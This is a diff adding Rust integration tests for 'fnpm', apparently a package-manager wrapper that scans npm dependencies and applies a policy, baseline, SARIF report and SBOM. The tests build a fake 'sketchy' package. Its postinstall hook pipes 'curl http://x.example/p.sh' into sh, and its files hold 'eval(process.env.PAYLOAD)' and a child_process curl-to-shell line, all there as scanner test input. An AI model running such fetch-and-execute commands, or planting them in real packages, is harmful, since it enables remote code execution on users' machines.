@@ -318,3 +318,229 @@ fn test_gitignore_excludes_target_lockfile() {
     // Should NOT contain pnpm-lock.yaml (target lockfile should be tracked)
     assert!(!gitignore_content.contains("pnpm-lock.yaml"));
 }
+
+fn setup_scanned_project() -> TempDir {
+    let temp_dir = TempDir::new().expect("Failed to create temp dir");
+    let root = temp_dir.path();
+    fs::create_dir_all(root.join(".fnpm")).unwrap();
+    fs::write(
+        root.join(".fnpm/config.json"),
+        format!(
+            r#"{{"package_manager":"npm","global_cache_path":"{}"}}"#,
+            root.join("cache").display()
+        ),
+    )
+    .unwrap();
+    fs::write(
+        root.join("package.json"),
+        r#"{"name":"app","version":"1.0.0","dependencies":{"sketchy":"1.0.0"}}"#,
+    )
+    .unwrap();
+    fs::create_dir_all(root.join("node_modules/sketchy")).unwrap();
+    fs::write(
+        root.join("node_modules/sketchy/package.json"),
+        r#"{"name":"sketchy","version":"1.0.0","scripts":{"postinstall":"curl http://x.example/p.sh | sh"}}"#,
+    )
+    .unwrap();
+    temp_dir
+}
+
+fn scan_exit_code(temp_dir: &TempDir, policy: &str) -> Option<i32> {
+    fs::write(temp_dir.path().join(".fnpm/policy.json"), policy).unwrap();
+    get_test_command()
+        .current_dir(temp_dir.path())
+        .args(["scan", "--non-interactive"])
+        .output()
+        .unwrap()
+        .status
+        .code()
+}
+
+#[test]
+#[serial]
+fn test_scan_non_interactive_exit_codes_follow_policy() {
+    let temp_dir = setup_scanned_project();
+
+    assert_eq!(scan_exit_code(&temp_dir, "{}"), Some(0));
+    assert_eq!(scan_exit_code(&temp_dir, r#"{"warn_on":"low"}"#), Some(2));
+    assert_eq!(scan_exit_code(&temp_dir, r#"{"fail_on":"low"}"#), Some(3));
+    assert_eq!(
+        scan_exit_code(&temp_dir, r#"{"deny":[{"package":"sketch*"}]}"#),
+        Some(3)
+    );
+    assert_eq!(
+        scan_exit_code(
+            &temp_dir,
+            r#"{"fail_on":"low","exceptions":[{"package":"sketchy","expires":"2999-12-31","justification":"reviewed"}]}"#
+        ),
+        Some(0)
+    );
+    assert_eq!(scan_exit_code(&temp_dir, "{ broken"), Some(1));
+}
+
+#[test]
+#[serial]
+fn test_add_non_interactive_refuses_to_install_unaudited_packages() {
+    let temp_dir = setup_scanned_project();
+    let output = get_test_command()
+        .current_dir(temp_dir.path())
+        .env("FNPM_REGISTRY", "http://127.0.0.1:1")
+        .args(["add", "left-pad", "--non-interactive"])
+        .output()
+        .unwrap();
+
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert_eq!(output.status.code(), Some(1), "{stderr}");
+    assert!(stderr.contains("without an audit"), "{stderr}");
+    assert!(!String::from_utf8_lossy(&output.stdout).contains("Proceeding with installation"));
+    assert!(!temp_dir.path().join("node_modules/left-pad").exists());
+}
+
+#[test]
+#[serial]
+fn test_scan_baseline_only_reports_new_findings() {
+    let temp_dir = setup_scanned_project();
+    let root = temp_dir.path();
+    fs::write(
+        root.join("node_modules/sketchy/index.js"),
+        "eval(process.env.PAYLOAD);\n",
+    )
+    .unwrap();
+
+    let output = get_test_command()
+        .current_dir(root)
+        .args(["scan", "--write-baseline"])
+        .output()
+        .unwrap();
+    assert!(output.status.success());
+    let baseline: serde_json::Value =
+        serde_json::from_str(&fs::read_to_string(root.join(".fnpm/baseline.json")).unwrap())
+            .unwrap();
+    let recorded = baseline["findings"].as_array().unwrap().len();
+    assert!(recorded > 0);
+
+    fs::write(
+        root.join("node_modules/sketchy/extra.js"),
+        "require('child_process').exec('curl http://x.example | sh');\n",
+    )
+    .unwrap();
+    let output = get_test_command()
+        .current_dir(root)
+        .args(["scan", "--save-report", "report.json"])
+        .output()
+        .unwrap();
+    assert!(output.status.success());
+
+    let report: serde_json::Value =
+        serde_json::from_str(&fs::read_to_string(root.join("report.json")).unwrap()).unwrap();
+    assert_eq!(
+        report["suppressed_findings"].as_u64(),
+        Some(recorded as u64)
+    );
+    let issues = report["package_audits"]["sketchy"]["source_code_issues"]
+        .as_array()
+        .unwrap();
+    assert!(!issues.is_empty());
+    assert!(issues
+        .iter()
+        .all(|issue| issue["file_path"].as_str().unwrap().ends_with("extra.js")));
+}
+
+#[test]
+#[serial]
+fn test_scan_saves_sarif_report() {
+    let temp_dir = setup_scanned_project();
+    let root = temp_dir.path();
+    fs::write(
+        root.join("node_modules/sketchy/index.js"),
+        "eval(process.env.PAYLOAD);\n",
+    )
+    .unwrap();
+
+    let output = get_test_command()
+        .current_dir(root)
+        .args(["scan", "--save-report", "fnpm.sarif", "--format", "sarif"])
+        .output()
+        .unwrap();
+    assert!(output.status.success());
+
+    let sarif: serde_json::Value =
+        serde_json::from_str(&fs::read_to_string(root.join("fnpm.sarif")).unwrap()).unwrap();
+    assert_eq!(sarif["version"], "2.1.0");
+    let results = sarif["runs"][0]["results"].as_array().unwrap();
+    assert!(results.iter().any(|result| {
+        result["ruleId"] == "eval_usage"
+            && result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
+                == "node_modules/sketchy/index.js"
+    }));
+}
+
+#[test]
+#[serial]
+fn test_sbom_lists_installed_packages() {
+    let temp_dir = setup_scanned_project();
+    let root = temp_dir.path();
+    fs::write(
+        root.join("node_modules/sketchy/package.json"),
+        r#"{"name":"sketchy","version":"1.0.0","license":"MIT","scripts":{"postinstall":"curl http://x.example/p.sh | sh"}}"#,
+    )
+    .unwrap();
+
+    let output = get_test_command()
+        .current_dir(root)
+        .args(["sbom"])
+        .output()
+        .unwrap();
+    assert!(output.status.success());
+    let bom: serde_json::Value =
+        serde_json::from_str(&fs::read_to_string(root.join("sbom.cdx.json")).unwrap()).unwrap();
+    assert_eq!(bom["bomFormat"], "CycloneDX");
+    assert_eq!(bom["components"][0]["purl"], "pkg:npm/sketchy@1.0.0");
+    assert_eq!(bom["components"][0]["licenses"][0]["license"]["id"], "MIT");
+    assert!(!bom["vulnerabilities"].as_array().unwrap().is_empty());
+
+    let output = get_test_command()
+        .current_dir(root)
+        .args(["sbom", "--format", "spdx", "-o", "app.spdx.json"])
+        .output()
+        .unwrap();
+    assert!(output.status.success());
+    let doc: serde_json::Value =
+        serde_json::from_str(&fs::read_to_string(root.join("app.spdx.json")).unwrap()).unwrap();
+    assert_eq!(doc["spdxVersion"], "SPDX-2.3");
+    assert_eq!(doc["packages"].as_array().unwrap().len(), 2);
+}
+
+#[test]
+#[serial]
+fn test_why_prints_dependency_paths_as_json() {
+    let temp_dir = setup_scanned_project();
+    let root = temp_dir.path();
+    fs::write(
+        root.join("node_modules/sketchy/package.json"),
+        r#"{"name":"sketchy","version":"1.0.0","dependencies":{"helper":"^2.0.0"},"scripts":{"postinstall":"curl http://x.example/p.sh | sh"}}"#,
+    )
+    .unwrap();
+    fs::create_dir_all(root.join("node_modules/helper")).unwrap();
+    fs::write(
+        root.join("node_modules/helper/package.json"),
+        r#"{"name":"helper","version":"2.1.0"}"#,
+    )
+    .unwrap();
+
+    let output = get_test_command()
+        .current_dir(root)
+        .args(["why", "helper", "--json"])
+        .output()
+        .unwrap();
+    assert!(output.status.success());
+    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert_eq!(report["total_paths"], 1);
+    let path = report["paths"][0].as_array().unwrap();
+    assert_eq!(path.len(), 2);
+    assert_eq!(path[0]["name"], "sketchy");
+    assert_ne!(path[0]["risk_level"], "Safe");
+    assert_eq!(path[1]["name"], "helper");
+    assert_eq!(path[1]["version"], "2.1.0");
+    assert_eq!(path[1]["risk_level"], "Safe");
+}